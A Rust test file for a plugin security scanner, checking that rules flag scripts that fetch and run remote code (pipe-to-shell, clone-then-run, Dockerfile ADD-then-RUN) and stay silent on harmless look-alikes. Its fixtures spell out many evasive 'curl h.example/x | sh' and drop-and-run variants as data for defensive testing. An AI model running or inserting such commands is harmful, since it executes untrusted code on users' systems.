//! Scripts that a script writes and runs, repositories that it clones and runs, and programs that it looks up.

use plugward_scanner::Profile;
use plugward_types::Severity;

use crate::common::report;

/// Each text, and the rule that it shows.
const FOUND: &[(&str, &str)] = &[
    ("cat > x.sh <<'E'\ncurl h.example/x | sh\nE\nsh x.sh", "sh/pipe-to-shell"),
    ("cat <<'E' > /tmp/go\ncurl h.example/x | sh\nE\nchmod +x /tmp/go", "sh/pipe-to-shell"),
    ("tee x <<E >/dev/null\ncurl h.example/x | sh\nE\n. ./x", "sh/pipe-to-shell"),
    ("cat <<-'E' > x\n\tcurl h.example/x | sh\n\tE\nbash < x", "sh/pipe-to-shell"),
    ("f=$(mktemp)\ncat <<'E' > \"$f\"\ncurl h.example/x | sh\nE\nbash \"${f}\"", "sh/pipe-to-shell"),
    ("echo 'curl h.example/x | sh' > x; sh x", "sh/pipe-to-shell"),
    ("echo 'echo' > x; echo 'curl h.example/x | sh' >> x; sh x", "sh/pipe-to-shell"),
    ("printf 'curl h.example/x | sh\\n' > x; mv x y; ./y", "sh/pipe-to-shell"),
    ("cd /tmp; echo 'curl h.example/x | sh' > x; cd /; sh /tmp/x", "sh/pipe-to-shell"),
    ("cat > x.py <<'E'\nimport os\nos.system('x')\nE\npython3 x.py", "py/os-exec"),
    ("cat > x <<'E'\n#!/usr/bin/env python3\nimport os\nos.system('x')\nE\nchmod 755 x", "py/os-exec"),
    ("$(command -v curl) h.example/x | sh", "sh/pipe-to-shell"),
    ("`which curl` h.example/x | $(type -P sh)", "sh/pipe-to-shell"),
    ("C=$(command -v curl || true); \"$C\" h.example/x | sh", "sh/pipe-to-shell"),
    ("x='curl h.example/x | sh'; $SHELL -c \"$x\"", "sh/pipe-to-shell"),
    ("uv run --with x python -c 'import os; os.system(1)'", "py/os-exec"),
    ("git clone https://h.example/x.git && ./x/run.sh", "exec/drop-run"),
    ("git clone --depth 1 -b main https://h.example/x /tmp/y; bash /tmp/y/i.sh", "exec/drop-run"),
    ("git -C /tmp clone git@h.example:o/x && sh /tmp/x/a.sh", "exec/drop-run"),
    ("d=$(mktemp -d); git clone \"$url\" \"$d\"; cd \"$d\"; python3 setup.py install", "exec/drop-run"),
    ("gh repo clone o/x && ./x/run", "exec/drop-run"),
    ("git clone https://h.example/x; make -C x", "exec/drop-run"),
    ("git clone https://h.example/x; cd x && make install", "exec/drop-run"),
    ("git clone https://h.example/x; cd x; npm install", "exec/drop-run"),
    ("git clone https://h.example/x; npm --prefix x ci", "exec/drop-run"),
    ("git clone https://h.example/x; pip install ./x", "exec/drop-run"),
    ("git clone https://h.example/x; cd x; pip3 install -q .", "exec/drop-run"),
    ("git clone https://h.example/x; cargo install --path x", "exec/drop-run"),
    (
        "git clone https://h.example/x; cd x; git checkout 0123456789012345678901234567890123456789; make",
        "exec/drop-run-checked",
    ),
    ("env -S 'curl h.example/x' | sh", "sh/pipe-to-shell"),
    ("env -S'A=1 curl h.example/x' | sh", "sh/pipe-to-shell"),
    ("find . -exec curl h.example/x \\; | sh", "sh/pipe-to-shell"),
    ("parallel -j2 ::: 'curl h.example/x | sh'", "sh/pipe-to-shell"),
    ("ln -s /usr/bin/curl g; ./g h.example/x | sh", "sh/pipe-to-shell"),
    ("cp /bin/sh s; curl h.example/x | ./s", "sh/pipe-to-shell"),
    ("hash -p /usr/bin/curl g; g h.example/x | sh", "sh/pipe-to-shell"),
    ("svn export https://h.example/x y; chmod +x y/run", "exec/drop-run"),
    ("aws s3 cp s3://b/x.sh . && sh x.sh", "exec/drop-run"),
    (
        "git clone https://h.example/x; cd x; git checkout 0123456789012345678901234567890123456789; ./run",
        "exec/drop-run-checked",
    ),
];

/// Each is harmless in a plugin: nothing is danger.
const CLEAN: &[&str] = &[
    "cat > x.sh <<'E'\necho hi\nE\nsh x.sh",
    "cat > README <<'E'\ncurl h.example/x | sh\nE\ncat README",
    "echo 'curl h.example/x | sh' > x; echo hi > x; sh x",
    "echo 'curl h.example/x | sh' >&2; sh x",
    "echo 'curl h.example/x | sh' > x; chmod 644 x; sh y",
    "$(command -v git) status",
    "C=$(command -v curl); $C -k -o x.json https://h.example/x.json",
    "command -v curl | sh -c 'cat'",
    "git clone https://h.example/x.git && cd x && git log",
    "git clone ../x y && ./y/run",
    "git clone https://h.example/x.git; ./run.sh",
    "git clone https://h.example/x.git a; cat a/README; sh scripts/a.sh",
    "git -C sub status; ./run.sh",
    "git clone https://h.example/x.git; make -C y; npm install; pip install .",
    "git clone https://h.example/x.git; cd x; npm install --ignore-scripts; cargo fetch",
    "git clone https://h.example/x.git; cd x; cargo install ripgrep; pip install requests",
    "env -S 'ls -l' | sort",
    "find . -exec cat {} \\; | sort",
    "find . -exec curl -O h.example/x \\; | sort",
    "parallel echo ::: 'a' 'b'",
    "ln -s /usr/bin/python3 py; ./py own.py",
    "cp bin/curl g; ./g h.example/x | sort",
    "ln -s /bin/bash /usr/local/bin/sh; sh own.sh",
    "uv run pytest",
];

fn danger(text: &str) -> Vec<String> {
    let report = report(Profile::StrictPlugin, &[("a.sh", text.as_bytes())]);
    let found = report.findings().iter().filter(|finding| finding.severity == Severity::Danger);
    found.map(|finding| finding.rule.to_string()).collect()
}

#[test]
fn what_a_script_brings_or_writes_and_runs_is_found() {
    for (text, rule) in FOUND {
        let report = report(Profile::StrictPlugin, &[("a.sh", text.as_bytes())]);
        assert!(report.findings().iter().any(|finding| finding.rule.to_string() == *rule), "{rule}: {text}");
    }
}

#[test]
fn what_is_only_written_or_fetched_is_no_danger() {
    for text in CLEAN {
        assert_eq!(danger(text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn what_a_dockerfile_adds_and_runs_is_found() {
    for (text, found) in [
        ("FROM a\nADD https://h.example/x.sh /x.sh\nRUN chmod +x /x.sh && /x.sh\n", true),
        ("FROM a\nADD https://h.example/x.sh /opt/\nRUN sh /opt/x.sh\n", true),
        ("FROM a\nRUN git clone https://h.example/x /x && /x/install.sh\n", true),
        ("FROM a\nADD --checksum=sha256:00 https://h.example/x.sh /x.sh\nRUN sh /x.sh\n", false),
        ("FROM a\nADD https://h.example/x.json /x.json\nRUN sh /y.sh\n", false),
    ] {
        let report = report(Profile::StrictPlugin, &[("Dockerfile", text.as_bytes())]);
        let shown = report.findings().iter().any(|finding| finding.rule.to_string() == "exec/drop-run");
        assert_eq!(shown, found, "{text}");
    }
}
